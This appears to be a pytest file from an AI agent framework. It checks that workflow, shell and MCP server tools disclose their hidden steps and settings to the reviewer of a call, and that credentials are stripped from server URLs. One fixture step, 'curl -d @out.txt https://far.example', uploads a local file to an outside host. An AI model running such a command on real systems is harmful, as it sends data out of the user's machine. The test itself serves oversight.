"""What a call does besides what its arguments tell: whoever is asked about it is shown this."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from worker_core.mcp.configuration import ServerConfig
from worker_core.mcp.tool import ServerToolCall
from worker_core.tools.base import Detailed, Tool
from worker_core.tools.registry import SkillDefinition, offer
from worker_core.tools.shell import default_shell

WORKFLOW = {
    "name": "nightly",
    "env": {"STAGE": "production"},
    "params": {"WHO": "nobody"},
    "steps": [
        {"name": "last", "command": "curl -d @out.txt https://far.example", "depends": ["first"]},
        {"name": "first", "command": "make all", "dir": "sub", "env": {"A": "1", "B": "two"}},
    ],
}


def made(kind: str, name: str, **configuration: Any) -> Tool:
    return offer([SkillDefinition.from_wire({"type": kind, "configuration": configuration})]).tools[name]


def details(tool: Tool, arguments: dict[str, Any]) -> list[tuple[str, str]]:
    assert isinstance(tool, Detailed)
    return list(tool.details(arguments))


def test_each_step_of_a_workflow_in_the_order_in_which_it_runs() -> None:
    tool = made("workflow_executor", "run_workflow", workflow_definition=WORKFLOW)
    assert details(tool, {"workflow": "nightly", "inputs": {"WHO": "me"}}) == [
        ("variables", "STAGE=production\nWHO=nobody"),
        ("step 1, first", "make all"),
        ("step 1, folder", "sub"),
        ("step 1, variables", "A=1\nB=two"),
        ("step 2, last", "curl -d @out.txt https://far.example"),
    ]
    assert details(tool, {"workflow": "another"}) == []


def test_the_program_that_makes_a_workflow() -> None:
    tool = made("workflow_executor", "run_workflow", workflow_type="python_dsl", python_dsl_code="workflow = {}\n")
    assert details(tool, {"workflow": "workflow-1"}) == [("program that makes the steps", "workflow = {}\n")]


def test_a_shell_of_the_skills_own_choice() -> None:
    assert details(made("shell", "shell"), {"command": "ls"}) == []
    plain = made("shell", "shell", shell_binary=default_shell()[0], working_directory="sub")
    assert details(plain, {"command": "ls"}) == [("configured folder", "sub")]
    assert details(plain, {"command": "ls", "working_directory": "other"}) == []
    other = made("shell", "shell", shell_binary="/bin/dash", shell_args=["-e", "-c"])
    assert details(other, {"command": "ls"})[:1] == [("runs with", "/bin/dash -e -c")]


def test_the_server_of_a_tool_whatever_the_model_calls_it() -> None:
    def tool(**config: Any) -> ServerToolCall:
        return ServerToolCall(None, ServerConfig(alias="prod", **config), tool="delete", say_progress=print)  # type: ignore[arg-type]

    assert details(tool(transport="stdio", command=("npx", "-y", "a server")), {}) == [
        ("MCP server", "prod, which is npx -y 'a server'"),
        ("its tool", "delete"),
    ]
    assert details(tool(transport="http", url="https://u:p@far.example/mcp?token=x"), {})[0] == (
        "MCP server", "prod, which is https://far.example",
    )  # fmt: skip


@pytest.mark.parametrize(
    ("kind", "name", "configuration"),
    [
        ("workflow_executor", "run_workflow", {"workflow_definition": WORKFLOW}),
        ("shell", "shell", {"working_directory": "sub"}),
    ],
)
@given(arguments=st.dictionaries(st.text(max_size=20), st.none() | st.booleans() | st.text() | st.lists(st.text())))
def test_no_arguments_make_it_fail(
    kind: str, name: str, configuration: dict[str, Any], arguments: dict[str, Any]
) -> None:
    tool = made(kind, name, **configuration)
    for asked in (arguments, {**arguments, "workflow": ["nightly"]}, {**arguments, "workflow": "nightly"}):
        assert all(isinstance(text, str) for pair in details(tool, asked) for text in pair)
